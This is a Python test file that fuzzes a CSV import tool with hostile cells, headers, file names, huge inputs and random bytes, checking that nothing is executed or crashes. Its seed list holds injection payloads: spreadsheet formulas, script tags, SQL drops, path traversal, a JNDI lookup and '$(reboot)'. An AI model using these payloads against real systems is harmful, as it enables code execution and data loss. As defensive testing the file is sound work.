# ruff: noqa: E501
"""Hostile strings as cells, headers and names; sizes that no table has; bytes at random."""

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.intake.desk import Desk, soon, write_rows
from tests.intake.real_files import PARTNERS

ROOT = Path(__file__).resolve().parents[2]
SEEDS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"http://x.example\",\"y\")", "\t=1", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "' OR '1'='1", "'; DROP TABLE imports; --",
    "Robert'); DROP TABLE partners;--", "../../etc/passwd", "..\\..\\windows\\system32", "/dev/null", "C:\\con\\con", "%00", "%s%s%n",
    "{{7*7}}", "${jndi:ldap://x.example/a}", "$(reboot)", "`id`", "\u202egnp.exe", "\u2066\u2069", "\ufeff", "\u200b", "é́́́́", "😀" * 20,
    "👩‍👩‍👧", "ﷺ", "İ", "ß", "ſ", "\U0010ffff", "\ue000", "\ufffd", "NaN", "inf", "-0", "1e999", "0x1F", "1_000", "null", "None", "undefined",
    "true", "[]", "{}", "\\", "\\\\", "\\n", "\\\"", "'", "\"\"", ",", ";", "|", "\r\n", "\n\n", " ", "\u00a0", "\x1b[2J", "\x07", "\x7f", "\x85",
    "\u2028", "a" * 3000, "ا" * 500, "__proto__", "constructor", "toString", "partner_id", "_line", "_error", "#REF!", "#", "--", "//", "AUX", "nul",
)  # fmt: skip
HOSTILE = [f"{left}{right}" for n, left in enumerate(SEEDS) for right in ("", " x", SEEDS[(7 * n + 3) % len(SEEDS)])]


def test_hostile_cells_come_back_letter_by_letter(reader: Desk) -> None:
    rows = [
        ["partner_id", "name", "partner_type", "region"],
        *([f"P{n}", text, "reseller", text[::-1]] for n, text in enumerate(HOSTILE * 8)),
    ]
    reading = reader.read(reader.put("hostile.csv", write_rows(rows)))
    assert reading.rows is not None
    assert len(reading.rows) == len(rows)
    assert [(row, seen) for row, seen in zip(rows, reading.rows, strict=True) if row != seen] == []


def test_hostile_cells_are_stored_or_refused_and_never_run(desk: Desk) -> None:
    rows = [["partner_id", "name", "partner_type", "tier"], *([text, text, text, text] for text in HOSTILE)]
    told = desk.take_one(desk.put("hostile.csv", write_rows(rows)))
    assert told.counts[0] == len(HOSTILE)
    assert told.counts[1] > len(HOSTILE) // 2
    deals = [["partner_id", "deal_id", "opened_on", "stage", "amount", "closed_on", "product"]]
    deals += [[text, f"D{n}", "2026-01-02", "won", "1", "2026-02-03", text] for n, text in enumerate(HOSTILE)]
    desk.take(desk.put("deals.csv", write_rows(deals)))
    assert 0 < sum(desk.sums().values()) <= len(HOSTILE)
    assert desk.is_sound()


@pytest.mark.parametrize("column", ["opened_on", "amount", "stage", "deal_id", "currency"])
def test_a_hostile_value_is_rejected_where_it_stands(desk: Desk, column: str) -> None:
    good = {
        "partner_id": "P1",
        "deal_id": "D",
        "opened_on": "2026-01-02",
        "stage": "won",
        "amount": "1",
        "closed_on": "2026-02-03",
        "currency": "EUR",
    }
    rows = [
        list(good),
        *(list((good | {"deal_id": f"D{n}", column: text}).values()) for n, text in enumerate(HOSTILE)),
    ]
    rows += [list((good | {"deal_id": f"G{n}"}).values()) for n in range(len(HOSTILE) * 3)]
    told = desk.take_one(desk.put("deals.csv", write_rows(rows)))
    assert told.counts[1] >= len(HOSTILE) * 3
    assert {rejection["column"] for rejection in told.rejections} <= {column, ""} | (
        {"partner_id"} if column == "deal_id" else set()
    )


def test_hostile_headers(reader: Desk) -> None:
    for start in range(0, len(HOSTILE), 60):
        names = HOSTILE[start : start + 60]
        reading = reader.read(
            reader.put(
                "headers.csv",
                write_rows(
                    [["partner_id", "name", *names], *([f"P{n}", "Acme", *"x" * len(names)] for n in range(5))]
                ),
            )
        )
        assert reading.rows is not None
        assert len(reading.rows[0]) == len(names) + 2
        told = reader.take_one(str(reader.folder / "headers.csv"), dry_run=True)
        assert told.counts[2] in (0, 5)


def test_hostile_file_names(reader: Desk) -> None:
    names = {text.replace("/", "_").replace("\0", "_")[:80].strip() for text in SEEDS[::2]} - {"", ".", ".."}
    folder = reader.folder / "names"
    folder.mkdir()
    paths = [reader.put(f"names/{name}{'.csv' * (n % 3 > 0)}", PARTNERS) for n, name in enumerate(sorted(names))]
    told = reader.take(*paths, dry_run=True)
    assert [(item.name, item.counts, item.error) for item in told if item.counts != (3, 3, 0, 0)] == []
    assert len(told) == len(paths)
    assert reader.run("read", "--csv-dir", str(reader.folder / "out"), *paths).code == 0
    assert len([item for item in (reader.folder / "out").rglob("*") if item.is_file()]) == len(paths)


@pytest.mark.parametrize("command", ["read", "import"])
def test_a_name_of_broken_bytes_ends_in_words_in_a_real_process(tmp_path: Path, command: str) -> None:
    bad = tmp_path / "caf\udce9 \n\x1b[31m.csv"
    bad.write_text(PARTNERS, encoding="utf-8")
    environ = {
        "TANDEM_HOME": str(tmp_path / "home"),
        "PATH": "/usr/bin",
        "LC_ALL": "C.UTF-8",
        "PYTHONPATH": str(ROOT),
    }
    ran = subprocess.run(
        [sys.executable, str(ROOT / "app.py"), command, str(bad)],
        env=environ,
        capture_output=True,
        timeout=60,
        check=False,
        cwd=tmp_path,
    )
    assert b"Traceback" not in ran.stderr
    assert b"\x1b[31m" not in ran.stdout + ran.stderr, "a name must not paint the terminal"
    assert ran.returncode in (0, 2)


def test_paths_that_are_no_files(reader: Desk) -> None:
    for path in (
        reader.folder / "missing.csv",
        reader.folder,
        Path("/dev/null"),
        reader.folder / ("x" * 300 + ".csv"),
    ):
        for command in ("read", "import"):
            ran = reader.run(command, str(path))
            assert ran.code == 2, path
            assert ran.err.strip()


def test_one_bad_file_does_not_stop_the_others(desk: Desk) -> None:
    ran = desk.run(
        "import",
        "--json",
        desk.put("partners.csv", PARTNERS),
        desk.put("empty.csv", ""),
        str(desk.folder / "missing.csv"),
    )
    assert ran.code == 1
    assert ran.out.count('"accepted": 3') == 1
    assert "empty.csv" in ran.err
    assert "missing.csv" in ran.err


def unclosed(megabytes: int) -> bytes:
    head = b'partner_id,date,kind,interaction_id\nP0,2026-01-02,call,I0\nP1,2026-01-02,"call,I1\n'
    return head + b"".join(b"P%d,2026-01-02,call,I%d\n" % (n % 500, n) for n in range(2, megabytes * 40_000))


GIANTS = {
    "twenty megabyte field": lambda: PARTNERS.encode() + b"P-400,\"" + b"x" * 20_000_000 + b"\",reseller,\nP-500,Elm,reseller,\n",
    "five megabyte field, bare": lambda: PARTNERS.encode() + b"P-400," + b"x" * 5_000_000 + b",reseller,\n",
    "five megabyte header": lambda: b"partner_id,name,partner_type," + b"x" * 5_000_000 + b"\nP1,Acme,reseller,1\n",
    "two hundred thousand columns": lambda: b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"1," * 199_999 + b"1\n",
    "two hundred thousand cells in a row": lambda: PARTNERS.encode() + b"P-400,Elm,reseller," + b"," * 200_000 + b"\n",
    "one line of delimiters": lambda: b"," * 1_000_000,
    "one line of quotes": lambda: b'"' * 1_000_000,
    "lines of quotes": lambda: b'"\n' * 200_000,
    "only newlines": lambda: b"\n" * 1_000_000,
    "only carriage returns": lambda: b"\r" * 1_000_000,
    "zero bytes": lambda: bytes(1_000_000),
    "unclosed quote and two megabytes": lambda: unclosed(2),
}  # fmt: skip


@pytest.mark.parametrize("name", GIANTS)
@pytest.mark.parametrize("command", ["read", "import"])
def test_giants_end_in_words_and_soon(desk: Desk, name: str, command: str) -> None:
    path = desk.put("giant.csv", GIANTS[name]())
    with soon():
        if command == "read":
            reading = desk.read(path)
            assert reading.rows is not None or reading.told.error
        else:
            told = desk.take_one(path)
            assert told.error or told.counts[2] or told.questions or told.values.get("notes"), told.counts
            assert len(told.text) < 200_000, "what is said stays short"


def test_an_unclosed_quote_costs_one_row_not_the_rest(desk: Desk) -> None:
    with soon():
        told = desk.take_one(desk.put("interactions.csv", unclosed(1)))
    total = 40_000
    assert told.error or told.counts[1] >= total - 2, told.counts
    assert told.error or told.says("quote"), told.values


def test_many_partners_of_one_name_take_no_longer_than_others(desk: Desk) -> None:
    rows = "".join(f"P{n},Gamma Ltd,reseller\n" for n in range(5000))
    with soon():
        told = desk.take_one(desk.put("partners.csv", "partner_id,name,partner_type\n" + rows))
    assert told.counts == (5000, 5000, 0, 0)


def test_a_cell_beyond_the_limit_is_named(desk: Desk) -> None:
    told = desk.take_one(desk.put("partners.csv", PARTNERS + "P-400," + "x" * 150_000 + ",reseller,\n"))
    assert told.error or [rejection["line"] for rejection in told.rejections] == [5]
    assert told.says("100,000", "100 kb", "100,000 characters", "too long", "100 000"), told.text[:500]


def test_columns_beyond_the_limit_are_named(desk: Desk) -> None:
    header = "partner_id,name,partner_type," + ",".join(f"c{n}" for n in range(1200))
    told = desk.take_one(desk.put("partners.csv", header + "\nP1,Acme,reseller," + "," * 1199 + "\n"))
    assert told.error
    assert "1,000" in told.error or "1000" in told.error


AT_RANDOM = settings(
    max_examples=60, deadline=None, derandomize=True, database=None, phases=[Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip


@given(
    content=st.one_of(
        st.binary(max_size=300), st.text(alphabet=",;|\t^\"'\\\r\n ab1.-é\0", max_size=200).map(str.encode)
    )
)
@AT_RANDOM
def test_bytes_at_random_never_end_in_anything_but_words(reader: Desk, content: bytes) -> None:
    reading = reader.read(reader.put("random.csv", content))
    assert reading.rows is not None or reading.told.error


CELL = st.text(st.one_of(st.characters(exclude_categories=("Cs", "Cc")), st.sampled_from("\n\t\",;'\\")), max_size=12)


@given(
    rows=st.lists(st.lists(CELL, min_size=3, max_size=3), min_size=1, max_size=6),
    delimiter=st.sampled_from(",;\t|^"),
)
@AT_RANDOM
def test_partners_of_any_letters_keep_them(reader: Desk, rows: list[list[str]], delimiter: str) -> None:
    table = [["partner_id", "name", "partner_type", "region"], *([f"P{n}", *row] for n, row in enumerate(rows))]
    reading = reader.read(reader.put("letters.csv", write_rows(table, delimiter)))
    kept = [[cell.lstrip("\ufeff") for cell in row] for row in table]
    assert reading.rows in (table, kept), reading.told.values.get("decisions")
